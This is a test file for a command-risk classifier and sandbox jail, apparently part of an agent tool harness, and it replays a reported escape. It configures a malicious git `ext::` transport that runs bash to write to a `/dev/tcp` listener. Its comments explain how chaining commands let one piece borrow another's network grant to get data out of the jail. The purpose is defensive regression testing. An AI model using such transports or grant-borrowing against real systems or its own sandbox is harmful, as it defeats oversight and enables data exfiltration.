import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { loadClassifier } from "../../policy/classify.ts";
import { execLocal } from "./transport-local.ts";

/**
 * The third outside attack, executed (policy/outside-attack-3.test.ts holds its grading): a
 * repository whose configured transport (`ext::`) runs a program that writes to a TCP listener the
 * test started. `git remote show origin` ran that program; with another piece's network grant
 * (`curl …; git …`) the bytes left the jail. The oracle is the listener: what it received.
 */
const classifier = await loadClassifier();
/** The length word of PostgreSQL's first packet (SSLRequest): 8, big-endian. */
const PSQL_FIRST_PACKET = "\0\0\0\x08";
const probe = await execLocal("true", { jail: true, timeoutMs: 20_000 });
const skip = probe.jail?.state === "failed" ? "the jail cannot start on this machine" : false;

describe("a piece never borrows another's grant; git remote show contacts nothing", { skip }, () => {
  let server: Server;
  let port = 0;
  let received = "";
  let repo = "";
  before(async () => {
    server = createServer((socket) =>
      socket.on("data", (data) => {
        received += data.toString("latin1");
        // A PostgreSQL client's first packet starts with its length (NUL bytes): close, so it stops.
        if (data[0] === 0) socket.destroy();
        else if (data.toString("latin1").startsWith("GET "))
          socket.end("HTTP/1.0 200 OK\r\ncontent-length: 0\r\n\r\n");
      }),
    );
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as { port: number }).port;
    repo = await mkdtemp(join(tmpdir(), "oikos-borrow-"));
    const git = (...args: string[]) => execFileSync("git", ["-C", repo, ...args]);
    git("init", "-q");
    git("config", "remote.origin.url", `ext::bash -c echo% pwned-by-git>/dev/tcp/127.0.0.1/${port}`);
    git("config", "protocol.ext.allow", "always");
  });
  after(async () => {
    await new Promise<void>((resolve) => server.close(() => resolve()));
    await rm(repo, { recursive: true, force: true });
  });
  const settle = () => new Promise((resolve) => setTimeout(resolve, 200));
  const receivedDuring = async (run: () => Promise<unknown>) => {
    const start = received.length;
    await run();
    await settle();
    return received.slice(start);
  };

  test("the control: unjailed, `git remote show origin` runs the repository's transport", async () => {
    const got = await receivedDuring(() =>
      execLocal(`git -C ${repo} remote show origin`, { timeoutMs: 20_000 }),
    );
    assert.match(got, /pwned-by-git/);
  });

  test("it is not read_only; with -n it is, needs no grant, and contacts nothing jailed or not", async () => {
    assert.notEqual(classifier.classify(`git -C ${repo} remote show origin`).risk, "read_only");
    const offline = classifier.classify(`git -C ${repo} remote show -n origin`);
    assert.equal(offline.risk, "read_only");
    assert.deepEqual(offline.grants, []);
    for (const jail of [true, false]) {
      const got = await receivedDuring(() =>
        execLocal(`git -C ${repo} remote show -n origin`, { jail, jailGrants: [], timeoutMs: 20_000 }),
      );
      assert.equal(got, "", `jail: ${jail}`);
    }
  });

  test("another piece's network grant is not lent: the joined command asks, each piece runs with its own", async () => {
    const curl = `curl -s http://127.0.0.1:${port}/x >/dev/null`;
    // psql alone is read_only and needs no grant: jailed it reaches nothing. Joined with curl it
    // ran with curl's network and its startup packet reached the listener (the attacker's [271]).
    const psql = `psql -h 127.0.0.1 -p ${port} -c 'select 1'`;
    const joined = `${curl}; ${psql}`;
    const graded = classifier.classify(joined);
    assert.notEqual(graded.risk, "read_only");
    assert.match(graded.reasons[0] ?? "", /`psql` would run with network .* run `curl` on its own/);
    assert.notEqual(classifier.classify(`${curl}; git -C ${repo} remote show origin`).risk, "read_only");
    // What the union of grants let through (the attack, as it ran before): the jail alone does not
    // hold once a piece borrows the network.
    const borrowed = await receivedDuring(() =>
      execLocal(joined, { jail: true, jailGrants: [{ resource: "network" }], timeoutMs: 20_000 }),
    );
    assert.ok(borrowed.includes(PSQL_FIRST_PACKET), "psql's first packet arrived");
    // The pieces as graded now, each with its own grants: the GET arrives (a proven network read);
    // psql reaches nothing.
    for (const piece of [curl, psql]) assert.equal(classifier.classify(piece).risk, "read_only", piece);
    const got = await receivedDuring(async () => {
      await execLocal(curl, {
        jail: true,
        jailGrants: classifier.classify(curl).grants ?? [],
        timeoutMs: 20_000,
      });
      await execLocal(psql, {
        jail: true,
        jailGrants: classifier.classify(psql).grants ?? [],
        timeoutMs: 20_000,
      });
    });
    assert.match(got, /^GET \/x /);
    assert.ok(!got.includes(PSQL_FIRST_PACKET), "no psql packet");
    // The control: unjailed, psql's startup packet reaches the listener.
    const control = await receivedDuring(() => execLocal(psql, { timeoutMs: 20_000 }));
    assert.ok(control.includes(PSQL_FIRST_PACKET));
  });

  const noPython = existsSync("/usr/bin/python3") ? false : "python3 is not installed";
  test("a socket grant covers every listed socket, a path with a space too (the attacker's [284])", {
    skip: noPython,
  }, async () => {
    const path = join(repo, "sp ace.sock");
    let bytes = 0;
    const service = createServer((socket) => socket.on("data", (data) => (bytes += data.length)));
    await new Promise<void>((resolve) => service.listen(path, resolve));
    const connect = `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${path}'); s.send(b'x')"`;
    try {
      const sent = async (jail: boolean) => {
        const start = bytes;
        await execLocal(connect, {
          jail,
          jailGrants: jail ? [{ resource: "socket", service: "docker" }] : [],
          timeoutMs: 20_000,
        });
        await settle();
        return bytes - start;
      };
      assert.equal(await sent(false), 1, "the control: unjailed, the byte arrives");
      assert.equal(await sent(true), 0, "jailed with another service's socket grant, nothing arrives");
    } finally {
      await new Promise<void>((resolve) => service.close(() => resolve()));
    }
  });
});
